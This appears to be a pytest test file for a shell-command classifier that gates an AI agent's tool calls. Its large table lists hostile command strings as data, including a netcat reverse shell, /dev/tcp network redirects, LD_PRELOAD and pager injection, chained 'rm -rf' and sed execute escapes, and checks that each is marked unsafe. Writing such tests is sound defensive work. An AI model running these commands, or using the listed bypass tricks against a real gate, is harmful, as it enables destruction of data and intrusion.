"""The shell-command classifier: a table of commands, most of them trying to sneak a write, a run or a network
call past the gate, plus argv handling, robustness on hostile input and ``call_facts``.

Needs are written as letters: r = read, e = edit, x = run, n = network. No classified command is ever run;
only GNU sed runs, with ``--sandbox`` on empty input, as an oracle for the sed scripts the classifier vets.
"""

from __future__ import annotations

import random
import shlex
import shutil
import subprocess

import pytest

from codex_orchestrator.commands import MAX_NESTING, Classification, call_facts, classify_shell
from codex_orchestrator.policy import Capability, ToolKind

LETTERS = {"r": Capability.READ, "e": Capability.EDIT, "x": Capability.RUN, "n": Capability.NETWORK}


def caps(letters: str) -> frozenset[Capability]:
    return frozenset(LETTERS[c] for c in letters)


SAFE = True
UNSAFE = False

# (command line, needs, read_only_safe)
TABLE: list[tuple[str, str, bool]] = [
    # --- plain read-only commands
    ("ls -la", "r", SAFE),
    ("cat README.md", "r", SAFE),
    ("head -n5 f; tail -n5 f", "r", SAFE),
    ("wc -l < in.txt", "r", SAFE),
    ("cat file | grep x | wc -l", "r", SAFE),
    ("grep -rn foo src 2>&1 | head", "r", SAFE),
    ("rg -n foo src", "r", SAFE),
    ("find . -name '*.py' -type f", "r", SAFE),
    ("pwd; echo hi; printf '%s\\n' \"$x\"", "r", SAFE),
    ("true && false || true", "r", SAFE),
    ("which python; stat f; file f", "r", SAFE),
    ("diff -u a b; cmp a b", "r", SAFE),
    ("LC_ALL=C sort -u file | uniq -c | cut -d' ' -f1 | tr a-z A-Z", "r", SAFE),
    ("basename /a/b; dirname /a/b", "r", SAFE),
    ("date -Iseconds; whoami; id; uname -a", "r", SAFE),
    ("env", "r", SAFE),
    ("env LANG=C ls", "r", SAFE),
    ("cd /tmp && ls", "r", SAFE),
    ("ls ~", "r", SAFE),
    ("'ls' -l", "r", SAFE),
    ("/bin/ls /", "r", SAFE),
    ("/usr/bin/env ls", "r", SAFE),
    ("! grep -q x f", "r", SAFE),
    ("grep x <<< 'abc'", "r", SAFE),
    ("echo 'a;b' \"c|d\" a\\;rm", "r", SAFE),
    ("echo '$(rm x)' \"\\$(rm x)\" '`id`'", "r", SAFE),
    ("ls # ; rm x", "r", SAFE),
    ("echo \\\n  hi", "r", SAFE),
    ("echo ${HOME} $1 $@", "r", SAFE),
    ("echo $'\\x3b rm'", "r", SAFE),
    ("set -euo pipefail; ls", "r", SAFE),
    ("command -v ls", "r", SAFE),
    ("nice -n 5 ls", "r", SAFE),
    ("time ls", "r", SAFE),
    ("GIT_PAGER=cat git log", "r", SAFE),
    ("sed -n '1,20p' file", "r", SAFE),
    ("sed -n '/start/,/end/p' f", "r", SAFE),
    ("sed 's/foo/bar/g; 5q' f", "r", SAFE),
    ("sed --sandbox -e 'w x' f", "r", SAFE),
    # --- redirections
    ("ls 2>/dev/null", "r", SAFE),
    ("echo hi >/dev/null", "r", SAFE),
    ("ls > /dev/null 2>&1", "r", SAFE),
    ("ls >&2; ls 1>&2 2>/dev/null; cat a 2>>/dev/null", "r", SAFE),
    ("cat < in.txt", "r", SAFE),
    ("git log > out", "re", UNSAFE),
    ("ls >> out", "re", UNSAFE),
    ("ls >| out", "re", UNSAFE),
    ("ls &> out", "re", UNSAFE),
    ("ls 2> err.log", "re", UNSAFE),
    ("echo hi >& out", "re", UNSAFE),
    ("echo hi > ~/x", "re", UNSAFE),
    ("echo hi > /dev/null/../../tmp/x", "re", UNSAFE),
    ("cat <> f", "re", UNSAFE),
    ("exec 3>file", "rex", UNSAFE),
    ("> truncated", "re", UNSAFE),
    ("cat < /dev/tcp/example.com/80", "rn", UNSAFE),
    ("echo hi > /dev/udp/10.0.0.1/53", "ren", UNSAFE),
    ("cat < $F", "rn", UNSAFE),
    ("echo hi > $F", "ren", UNSAFE),
    ("ls >", "rx", UNSAFE),
    # --- sneaking a second command past the first
    ("ls; rm -rf x", "re", UNSAFE),
    ("cat a && touch b", "re", UNSAFE),
    ("ls || rm x", "re", UNSAFE),
    ("ls | rm x", "re", UNSAFE),
    ("ls |& rm x", "re", UNSAFE),
    ("ls & rm x", "re", UNSAFE),
    ("ls\nrm x", "re", UNSAFE),
    ("ls;rm x", "re", UNSAFE),
    ("ls&&rm x", "re", UNSAFE),
    ("cat a | sh", "rx", UNSAFE),
    ("cat a | bash -s", "rx", UNSAFE),
    ("ls a#$(rm x)", "rex", UNSAFE),
    # --- substitutions, subshells and other opaque constructs
    ("echo $(rm x)", "rex", UNSAFE),
    ('echo "$(curl x)"', "rxn", UNSAFE),
    ("echo `id`", "rx", UNSAFE),
    ('echo "`rm x`"', "rex", UNSAFE),
    ("echo $((1+2))", "rx", UNSAFE),
    ("echo $[1+2]", "rx", UNSAFE),
    ("echo ${x:-$(id)}", "rx", UNSAFE),
    ('echo "${a[$(id)]}"', "rx", UNSAFE),
    ("echo ${!ref}", "rx", UNSAFE),
    ("diff <(ls a) <(ls b)", "rx", UNSAFE),
    ("ls > >(rm x)", "rexn", UNSAFE),
    ("(ls)", "rx", UNSAFE),
    ("(rm x)", "rex", UNSAFE),
    ("{ ls; }", "rx", UNSAFE),
    ("f() { ls; }", "rx", UNSAFE),
    ("function f { rm x; }", "rex", UNSAFE),
    ("for f in *.py; do cat $f; done", "rx", UNSAFE),
    ("if true; then rm x; fi", "rex", UNSAFE),
    ("[[ -f x ]] && cat x", "rx", UNSAFE),
    ("cat <<MARK\nhi\nMARK", "rx", UNSAFE),
    ("eval 'rm x'", "rex", UNSAFE),
    ("eval $CMD", "rx", UNSAFE),
    ("exec ls", "rx", UNSAFE),
    ("source ./env.sh", "rx", UNSAFE),
    (". ./env.sh", "rx", UNSAFE),
    ("$CMD arg", "rx", UNSAFE),
    ('"$(echo rm)" x', "rx", UNSAFE),
    ("x=ls; $x", "rx", UNSAFE),
    ("l? -a", "rx", UNSAFE),
    ("{ls,-a}", "rx", UNSAFE),
    ("rm$IFS-rf x", "rx", UNSAFE),
    ("$'rm' x", "rx", UNSAFE),
    ("a=(1 2)", "rx", UNSAFE),
    ("a[$i]=1", "rx", UNSAFE),
    ("printf -v 'a[$(id)]' x", "rx", UNSAFE),
    # --- unparseable input
    ("echo 'unterminated", "rx", UNSAFE),
    ('echo "unterminated', "rx", UNSAFE),
    ("echo $(unterminated", "rx", UNSAFE),
    ("echo `unterminated", "rx", UNSAFE),
    ("echo ${unterminated", "rx", UNSAFE),
    ("echo trailing\\", "rx", UNSAFE),
    # --- environment assignments and wrappers
    ("FOO=bar ls", "rx", UNSAFE),
    ("PATH=/tmp ls", "rx", UNSAFE),
    ("LD_PRELOAD=evil.so cat f", "rx", UNSAFE),
    ("GIT_EXTERNAL_DIFF=sh git diff", "rx", UNSAFE),
    ("PAGER=sh git log", "rx", UNSAFE),
    ('"LANG=C" ls', "rx", UNSAFE),
    ("env FOO=1 rm x", "rex", UNSAFE),
    ("env -i PATH=/bin ls", "rx", UNSAFE),
    ("env -S 'rm x'", "rx", UNSAFE),
    ("sudo ls", "rx", UNSAFE),
    ("sudo -u bob rm x", "rex", UNSAFE),
    ("sudo -e /etc/hosts", "rex", UNSAFE),
    ("timeout 5 rm a", "re", UNSAFE),
    ("timeout -s KILL 5 curl x", "rn", UNSAFE),
    ("nice -n 5 rm x", "re", UNSAFE),
    ("nohup ls", "re", UNSAFE),
    ("time -o out ls", "re", UNSAFE),
    ("command rm x", "re", UNSAFE),
    ("xargs rm", "rex", UNSAFE),
    ("xargs -0 -n1 echo", "rx", UNSAFE),
    ("find . -print0 | xargs -0 grep x", "rx", UNSAFE),
    ("\\rm x", "re", UNSAFE),
    ("r'm' x", "re", UNSAFE),
    ("./ls", "rx", UNSAFE),
    ("/usr/local/bin/ls", "rx", UNSAFE),
    # --- shells: classified by their script
    ("bash -c 'ls; curl x'", "rn", UNSAFE),
    ("bash -lc 'git log --oneline && git ls-files'", "r", SAFE),
    ("sh -c 'rm x'", "re", UNSAFE),
    ('sh -c "$X"', "rx", UNSAFE),
    ("bash script.sh", "rx", UNSAFE),
    ("bash -o pipefail -ec 'ls | head'", "r", SAFE),
    # --- dangerous flags of otherwise read-only commands
    ("find . -delete", "re", UNSAFE),
    ("find . -exec rm {} \\;", "rex", UNSAFE),
    ("find . -execdir cat {} +", "rx", UNSAFE),
    ("find . -fprint out", "re", UNSAFE),
    ("find $DIR -name x", "rx", UNSAFE),
    ("find * -name x", "rx", UNSAFE),
    ("sort -o out f", "re", UNSAFE),
    ("sort -ro out f", "re", UNSAFE),
    ("sort --out=x f", "re", UNSAFE),
    ("sort --compress-program=sh f", "rx", UNSAFE),
    ("uniq a b", "re", UNSAFE),
    ("uniq -- -a -b", "re", UNSAFE),
    ("uniq -c a", "r", SAFE),
    ("date -s 10:00", "rx", UNSAFE),
    ("file -C -m magic", "re", UNSAFE),
    ("rg --pre cat foo", "rx", UNSAFE),
    ("rg -z foo", "rx", UNSAFE),
    ("sed -i 's/a/b/' f", "re", UNSAFE),
    ("sed -ni 's/a/b/p' f", "re", UNSAFE),
    ("sed --in-place=.bak 's/a/b/' f", "re", UNSAFE),
    ("sed 's/a/b/w out' f", "rex", UNSAFE),
    ("sed -e 's/x/y/e' f", "rex", UNSAFE),
    ("sed '1e id' f", "rex", UNSAFE),
    ("sed -f script.sed f", "rex", UNSAFE),
    ('sed "s/$a/b/" f', "rex", UNSAFE),
    # GNU sed skips delimiters inside brackets: `[/]` hides the real end of the regex and these run `e`.
    ("sed 's/[/]/g;/e;#/p' f", "rex", UNSAFE),
    ("sed 's/[]/]/g;/e;#/p' f", "rex", UNSAFE),
    ("sed 's/[^]/]/g;/e;#/p' f", "rex", UNSAFE),
    ("sed 's/[0-9]//g; /^[[:space:]]*$/d' f", "r", SAFE),
    ("set -k", "rx", UNSAFE),
    # --- git
    ("git log --oneline -5", "r", SAFE),
    ("git show --stat HEAD", "r", SAFE),
    ("git describe --tags; git rev-parse --show-toplevel", "r", SAFE),
    ("git ls-files; git grep -n foo", "r", SAFE),
    ("git branch; git branch -a -v; git branch --list 'feat*'", "r", SAFE),
    ("git --no-pager log -p --no-textconv", "r", SAFE),
    ("git remote -v", "r", SAFE),
    ("git branch newb", "re", UNSAFE),
    ("git branch -D x", "re", UNSAFE),
    ("git log --output=patch.txt", "re", UNSAFE),
    ("git log --ext-diff", "rx", UNSAFE),
    ("git grep -O foo", "rx", UNSAFE),
    ("git -c core.pager=sh log", "rx", UNSAFE),
    ("git --exec-path=/tmp status", "rx", UNSAFE),
    ("git foo", "rx", UNSAFE),
    ("git -C $DIR status", "rx", UNSAFE),
    ("git add .", "re", UNSAFE),
    ("git commit -m x", "re", UNSAFE),
    ("git checkout main; git reset --hard; git stash", "re", UNSAFE),
    ("git push", "rn", UNSAFE),
    ("git ls-remote origin", "rn", UNSAFE),
    ("git clone http://x", "ren", UNSAFE),
    ("git fetch; git pull", "ren", UNSAFE),
    ("git remote add origin x", "re", UNSAFE),
    ("git -C dir status", "rx", UNSAFE),
    ("git -C /elsewhere log", "rx", UNSAFE),
    ("git --git-dir=/x/.git log", "rx", UNSAFE),
    ("git --work-tree=/x ls-files", "rx", UNSAFE),
    ("git --config-env=core.pager=P log", "rx", UNSAFE),
    # status, diff and blame run the repository's clean filters, textconv and diff.external
    ("git status", "r", SAFE),  # in the read sandbox
    ("git status --short", "r", SAFE),  # in the read sandbox
    ("git diff HEAD~1 -- src/", "r", SAFE),  # in the read sandbox
    ("git diff --no-ext-diff --no-textconv", "r", SAFE),  # in the read sandbox
    ("git blame -L 1,5 f", "r", SAFE),  # in the read sandbox
    ("git ls-files -m", "rx", UNSAFE),
    ("git describe --dirty", "rx", UNSAFE),
    ("git log -p", "r", SAFE),  # in the read sandbox
    ("git log -S needle", "r", SAFE),  # in the read sandbox
    ("git log -Gx --no-textconv", "r", SAFE),
    ("git show", "r", SAFE),  # in the read sandbox
    ("git show HEAD --no-textconv", "r", SAFE),
    ("git show -s --format=%H HEAD", "r", SAFE),
    ("git log --stat --oneline -3", "r", SAFE),
    ("git log --format='%h %s' --since=2.weeks --author=me", "r", SAFE),
    ("git log --textconv -p", "rx", UNSAFE),
    ("git log --show-signature", "rx", UNSAFE),
    ("git log --no-walk --output=x", "re", UNSAFE),
    ("git grep --textconv foo", "rx", UNSAFE),
    ("git grep --recurse-submodules foo", "rx", UNSAFE),
    ("git ls-files --others --exclude-standard", "r", SAFE),
    ("git log -- src/*", "r", SAFE),
    ("git log src/*", "r", SAFE),
    ("git log *", "rx", UNSAFE),
    ("git log -- *.py $X", "r", SAFE),
    ("git log $X -- *.py", "rx", UNSAFE),
    ("git tag --contains HEAD; git tag --sort=-creatordate", "r", SAFE),
    ("git tag -a v1 -m x", "re", UNSAFE),
    # brace and glob expansion in git's options and subcommand
    ("git log --{output,x}=f", "rx", UNSAFE),
    ("git diff --{ext-diff,stat}", "rx", UNSAFE),
    ("git show --ext-dif?", "rx", UNSAFE),
    ("git -{C,x} /tmp log", "rx", UNSAFE),
    ("git l{og,s-files}", "rx", UNSAFE),
    ("git $SUB", "rx", UNSAFE),
    ("git log $OPTS", "rx", UNSAFE),
    ("git st", "rx", UNSAFE),
    # read-only git grown: config reads, tag and stash listing, show-ref
    ("git config --get user.name", "r", SAFE),
    ("git config --get-all remote.origin.fetch; git config --list --show-origin", "r", SAFE),
    ("git config -l", "r", SAFE),
    ("git config user.name x", "re", UNSAFE),
    ("git config --unset user.name", "re", UNSAFE),
    ("git config --edit", "re", UNSAFE),
    ("git tag -l 'v*'; git tag --list --sort=-v:refname; git tag", "r", SAFE),
    ("git tag v1", "re", UNSAFE),
    ("git tag -d v1", "re", UNSAFE),
    ("git stash list", "r", SAFE),
    ("git stash list -p", "r", SAFE),  # in the read sandbox
    ("git reflog -5; git for-each-ref --sort=-committerdate; git count-objects -v", "r", SAFE),
    ("git config user.name; git config --global --get-all user.email", "r", SAFE),
    ("git config user.name me", "re", UNSAFE),
    ("git config --file f user.name", "re", UNSAFE),
    ("git reflog expire --all", "rx", UNSAFE),
    ("git worktree list; git notes list; git symbolic-ref HEAD", "r", SAFE),
    ("git worktree add ../x", "re", UNSAFE),
    ("git symbolic-ref HEAD refs/heads/x", "re", UNSAFE),
    ("git diff-tree -r HEAD; git diff-files", "r", SAFE),  # in the read sandbox
    ("git -c core.quotepath=off -c color.ui=never log --oneline", "r", SAFE),
    ("git -c core.quotePath=off -c core.pager=sh log", "rx", UNSAFE),
    ("git -c core.quotepath=$X log", "rx", UNSAFE),
    ("git -c color.ui", "r", SAFE),
    ("git stash pop", "re", UNSAFE),
    ("git show-ref --heads", "r", SAFE),
    ("env -i git ls-files", "rx", UNSAFE),
    ("env -u GIT_CONFIG_COUNT git log", "rx", UNSAFE),
    ("GIT_CONFIG_COUNT=0 git log", "rx", UNSAFE),
    ("GIT_DIR=/x/.git git log", "rx", UNSAFE),
    # --- brace and glob expansion where an option or an extra operand would land
    ("bash -c 'find . -{delete,name}'", "rx", UNSAFE),
    ("find . -{delete,x}", "rx", UNSAFE),
    ("find . -dele?e", "rx", UNSAFE),
    ("find . -fprin[t] out", "rx", UNSAFE),
    ("find . -exe[c] rm {} +", "rx", UNSAFE),
    ("find src/* -name x", "r", SAFE),
    ("find . -name '*.py' -newer a*", "r", SAFE),
    ("find . ~", "rx", UNSAFE),
    ("sort --{output,x}=f a", "rx", UNSAFE),
    ("sort -{o,x} f a", "rx", UNSAFE),
    ("sort -u src/*.txt", "r", SAFE),
    ("rg --{pre,x}=sh foo", "rx", UNSAFE),
    ("rg -{z,x} foo", "rx", UNSAFE),
    ("rg foo src/*", "r", SAFE),
    ("date --{set,x}=10:00", "rx", UNSAFE),
    ("date -{s,x} 10:00", "rx", UNSAFE),
    ("date 0101000026", "rx", UNSAFE),
    ("date -d @0 +%s", "r", SAFE),
    ("file --{compile,x}", "rx", UNSAFE),
    ("file -{C,x} -m m", "rx", UNSAFE),
    ("file src/*", "r", SAFE),
    ("uniq in*", "rx", UNSAFE),
    ("uniq in{,2}", "rx", UNSAFE),
    ("uniq -c i?", "rx", UNSAFE),
    ("printf -{v,x} 'a[$(id)]' 1", "rx", UNSAFE),
    ("printf $FMT x", "rx", UNSAFE),
    ("printf '%s' *", "r", SAFE),
    ("sed -{i,n} p f", "rx", UNSAFE),
    ("sed -n p src/*", "r", SAFE),
    ("ls -{a,l}", "rx", UNSAFE),
    ("ls -l*", "rx", UNSAFE),
    ("ls *.py; cat src/*; grep -r foo src/*", "r", SAFE),
    ("env -{S,x} 'rm x'", "rx", UNSAFE),
    ("nice -{n,x} 5 ls", "rx", UNSAFE),
    ("bash -{c,x} 'ls'", "rx", UNSAFE),
    ("echo ~ ~/x", "r", SAFE),
    # --- read-only commands added with their dangerous variants
    ("du -sh .; du -a --max-depth=1 src", "r", SAFE),
    ("tree -L 2 src", "r", SAFE),
    ("tree -o listing.txt", "re", UNSAFE),
    ("tree -fo listing.txt", "re", UNSAFE),
    ("tree -R -L 1", "re", UNSAFE),
    ("tree -{o,x} f", "rx", UNSAFE),
    ("sha256sum f; md5sum f; sha1sum -c sums; b2sum --tag f", "r", SAFE),
    ("nl -ba f; od -c f; tac f", "r", SAFE),
    ("realpath x; readlink -f x", "r", SAFE),
    ("jq '.a' f.json; jq -r --arg k v '.[$k]' f.json", "r", SAFE),
    ("jq . f.json > out", "re", UNSAFE),
    ("test -f x", "r", SAFE),
    ("[ -d src ] && ls src", "r", SAFE),
    ("[ -f x", "rx", UNSAFE),
    ("test -v 'a[$(id)]'", "rx", UNSAFE),
    ("[ -R x ]", "rx", UNSAFE),
    ("test -f $f", "rx", UNSAFE),
    # --- commands that edit files
    ("touch a; mkdir -p b; rm -rf c; rmdir d", "re", UNSAFE),
    ("cp a b; mv a b; ln -s a b", "re", UNSAFE),
    ("chmod +x f; chown u f; truncate -s0 f", "re", UNSAFE),
    ("patch -p1 < p.diff", "re", UNSAFE),
    ("ls | tee out", "re", UNSAFE),
    ("dd if=a of=b", "re", UNSAFE),
    ("perl -pi -e 's/a/b/' f", "rex", UNSAFE),
    # --- network
    ("curl -s http://x", "rn", UNSAFE),
    ("curl -sSLo out http://x", "ren", UNSAFE),
    ("curl -O http://x/f", "ren", UNSAFE),
    ("wget http://x", "ren", UNSAFE),
    ("ssh host ls", "rxn", UNSAFE),
    ("scp host:a b", "ren", UNSAFE),
    ("scp -o ProxyCommand=sh host:a b", "rexn", UNSAFE),
    ("rsync -a host:/a b", "ren", UNSAFE),
    ("rsync -a a b", "re", UNSAFE),
    ("rsync -e 'sh -c x' a host:b", "rexn", UNSAFE),
    ("nc -l 1234", "rn", UNSAFE),
    ("nc -e /bin/sh host 1", "rxn", UNSAFE),
    ("ping -c1 x", "rn", UNSAFE),
    ("pip install requests", "rexn", UNSAFE),
    ("pip3 --index-url http://x install y", "rexn", UNSAFE),
    ("python -m pip install x", "rexn", UNSAFE),
    ("uv pip install x", "rexn", UNSAFE),
    ("npm install", "rexn", UNSAFE),
    ("yarn", "rexn", UNSAFE),
    ("pnpm add x", "rexn", UNSAFE),
    ("npx cowsay", "rxn", UNSAFE),
    ("apt-get install -y jq", "rexn", UNSAFE),
    ("docker pull alpine", "ren", UNSAFE),
    # --- anything else runs code
    ("python3 script.py", "rx", UNSAFE),
    ("node app.js", "rx", UNSAFE),
    ("awk '{print}' f", "rx", UNSAFE),
    ("make test", "rx", UNSAFE),
    ("pytest -q", "rx", UNSAFE),
    ('codex exec "do it"', "rx", UNSAFE),
    ("npm test", "rx", UNSAFE),
    ("export FOO=1", "rx", UNSAFE),
    ("alias ls=rm", "rx", UNSAFE),
    ("pip list", "rx", UNSAFE),
    ("docker run alpine", "rxn", UNSAFE),
]


@pytest.mark.parametrize(("command", "needs", "safe"), TABLE)
def test_classification(command: str, needs: str, safe: bool) -> None:
    result = classify_shell(command)
    assert (result.needs, result.read_only_safe) == (caps(needs), safe), result.reasons
    assert result.reasons, "every classification explains itself"


def test_only_what_reaches_configured_drivers_needs_the_read_sandbox() -> None:
    """A row marked "in the read sandbox" is read-only only there; every other safe row is read-only anywhere."""
    confined = {
        "git status",
        "git status --short",
        "git diff HEAD~1 -- src/",
        "git diff --no-ext-diff --no-textconv",
        "git blame -L 1,5 f",
        "git log -p",
        "git log -S needle",
        "git show",
        "git stash list -p",
        "git diff-tree -r HEAD; git diff-files",
    }
    for command, _, safe in TABLE:
        if safe:
            assert classify_shell(command).read_sandbox == (command in confined), command
    # A part beyond read (here: a write) leaves nothing the sandbox could make read-only.
    assert not classify_shell("git status > out").read_sandbox
    assert not classify_shell("git status; rm x").read_sandbox


def test_table_is_large_and_consistent() -> None:
    assert len(TABLE) >= 80
    assert len({c for c, _, _ in TABLE}) == len(TABLE), "duplicate rows"
    for command, needs, safe in TABLE:
        assert "r" in needs, command
        assert safe == (needs == "r"), f"{command}: read-only safe exactly when only read is needed"


# Appending or prepending any of these to a read-only-safe command must make it unsafe.
SNEAKS = ["; rm x", " && touch y", " || rm x", " | sh", " > out", "\nrm x", " & rm x", " $(rm x)", " `id`"]
SAFE_COMMANDS = [c for c, _, safe in TABLE if safe and "#" not in c]  # a comment would swallow the suffix


@pytest.mark.parametrize("sneak", SNEAKS)
def test_a_sneaked_suffix_always_makes_a_safe_command_unsafe(sneak: str) -> None:
    for command in SAFE_COMMANDS:
        assert classify_shell(command).read_only_safe, command
        assert not classify_shell(command + sneak).read_only_safe, command + sneak
        assert not classify_shell(sneak.lstrip(" ;&|") + "; " + command).read_only_safe, command


def test_argv_is_not_interpreted_by_a_shell() -> None:
    assert classify_shell(["ls", "; rm x"]).read_only_safe
    assert classify_shell(["echo", "$(rm x)", "`id`", "> out"]).read_only_safe
    assert classify_shell(["/bin/ls", "-la"]).read_only_safe
    # A NAME=value word is a program name in an argv, never an assignment or a keyword.
    assert classify_shell(["FOO=1", "ls"]).needs == caps("rx")
    assert classify_shell(["if", "true"]).needs == caps("rx")
    # Flags still matter: they are parsed the same way.
    assert classify_shell(["find", ".", "-exec", "rm", "{}", ";"]).needs == caps("rex")
    assert classify_shell(["git", "push"]).needs == caps("rn")
    assert classify_shell(("xargs", "rm")).needs == caps("rex")


def test_argv_shell_invocations_are_classified_by_their_script() -> None:
    assert classify_shell(["sh", "-c", "ls; curl x"]).needs == caps("rn")
    assert classify_shell(["bash", "-lc", "git log"]).read_only_safe
    assert classify_shell(["bash", "-c", "rm x", "arg0"]).needs == caps("re")
    assert classify_shell(["/bin/sh", "-c", "echo $(id)"]).needs == caps("rx")
    assert classify_shell(["sh", "script.sh"]).needs == caps("rx")
    assert classify_shell(["sh", "-c"]).needs == caps("rx")


def test_empty_commands_run_nothing() -> None:
    empty: list[str | list[str]] = ["", "   ", "\n", "# only a comment", []]
    for command in empty:
        result = classify_shell(command)
        assert result == Classification(caps("r"), True, result.reasons)
        assert result.reasons


def test_nesting_beyond_the_limit_is_opaque() -> None:
    def nest(script: str, levels: int) -> str:
        for _ in range(levels):
            script = "bash -c " + shlex.quote(script)
        return script

    assert classify_shell(nest("ls", MAX_NESTING)).read_only_safe
    assert classify_shell(nest("ls", MAX_NESTING + 1)).needs == caps("rx")
    deep = "echo " + "$(" * 500 + "ls" + ")" * 500
    assert classify_shell(deep).needs == caps("rx")
    ticks = "echo " + "`echo " * 50 + "ls" + "`" * 50
    assert not classify_shell(ticks).read_only_safe


def test_hostile_input_never_raises_and_stays_consistent() -> None:
    rng = random.Random(20240601)  # deterministic
    alphabet = [*"abc -=/;&|<>()$`'\"\\{}[]*?!#~\n\t0123", "rm", "ls", "sh -c", "$(", "<<", "2>", "&>"]
    for _ in range(3000):
        command = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 30)))
        result = classify_shell(command)
        assert Capability.READ in result.needs
        assert result.read_only_safe == (result.needs == caps("r")), command
        assert result.reasons, command


def test_call_facts_for_shell_calls() -> None:
    facts = call_facts(ToolKind.SHELL, "ls -la")
    assert (facts.kind, facts.needs, facts.read_only_safe, facts.requests_escalation) == (
        ToolKind.SHELL,
        caps("r"),
        True,
        False,
    )
    assert call_facts(ToolKind.SHELL, ("rm", "x")).needs == caps("re")
    assert call_facts(ToolKind.SHELL, "ls", requests_escalation=True).requests_escalation
    # Declared capabilities add to what the classifier found; needing more than read is never read-only safe.
    declared = call_facts(ToolKind.SHELL, "ls", declared=[Capability.NETWORK])
    assert (declared.needs, declared.read_only_safe) == (caps("rn"), False)
    assert call_facts(ToolKind.SHELL, "ls", declared=[Capability.READ]).read_only_safe
    assert call_facts(ToolKind.SHELL, "curl x", declared=[Capability.EDIT]).needs == caps("ren")
    # No command: the gate runs `true`.
    assert call_facts(ToolKind.SHELL, None).read_only_safe


@pytest.mark.parametrize(
    ("kind", "needs"), [(ToolKind.EDIT, "re"), (ToolKind.FETCH, "rn"), (ToolKind.AGENT, "rex")]
)
def test_call_facts_for_other_kinds(kind: ToolKind, needs: str) -> None:
    facts = call_facts(kind, None)
    assert (facts.kind, facts.needs, facts.read_only_safe) == (kind, caps(needs), False)
    # The command of an agent or an edit is not a shell command: it never lowers what the call needs.
    assert call_facts(kind, "ls").needs == caps(needs)
    assert call_facts(kind, None, declared=[Capability.NETWORK]).needs == caps(needs) | caps("n")
    assert call_facts(kind, None, requests_escalation=True).requests_escalation


def _gnu_sed_sandbox() -> bool:
    sed = shutil.which("sed")
    if sed is None:
        return False
    probe = subprocess.run(
        [sed, "--sandbox", "-n", "p"], input="", capture_output=True, text=True, timeout=30
    )
    return probe.returncode == 0


@pytest.mark.skipif(not _gnu_sed_sandbox(), reason="needs GNU sed with --sandbox")
def test_vetted_sed_scripts_never_use_e_r_or_w_according_to_gnu_sed() -> None:
    """Differential check against the real parser: ``sed --sandbox`` refuses e/r/w at compile time, so every
    script the classifier vets must compile there without that complaint."""
    rng = random.Random(7)
    pieces = [
        "a",
        "/",
        "[",
        "]",
        "^",
        "\\",
        "e",
        "w",
        " ",
        ";",
        "#",
        "p",
        ".",
        ",",
        "|",
        ":",
        "[:alpha:]",
        "$",
    ]

    def part() -> str:
        return "".join(rng.choice(pieces) for _ in range(rng.randint(0, 6)))

    def command() -> str:
        d = rng.choice("/|#,:@")
        address = rng.choice(["", "1", "$", f"/{part()}/", f"1,/{part()}/"])
        flags = rng.choice(["", "g", "e", "w x", "p"])
        body = rng.choice([f"s{d}{part()}{d}{part()}{d}{flags}", "p", "e", "w x", f"y/{part()}/{part()}/"])
        return address + rng.choice(["", "!"]) + body

    vetted = 0
    for _ in range(50_000):
        script = rng.choice([";", "\n", ";#"]).join(command() for _ in range(rng.randint(1, 3)))
        if not classify_shell(["sed", "-n", "-e", script, "f"]).read_only_safe:
            continue
        vetted += 1
        proc = subprocess.run(
            ["sed", "--sandbox", "-n", "-e", script], input="", capture_output=True, text=True, timeout=30
        )
        assert "sandbox" not in proc.stderr, f"vetted {script!r} but GNU sed sees e/r/w: {proc.stderr}"
        if vetted == 300:
            break
    assert vetted == 300
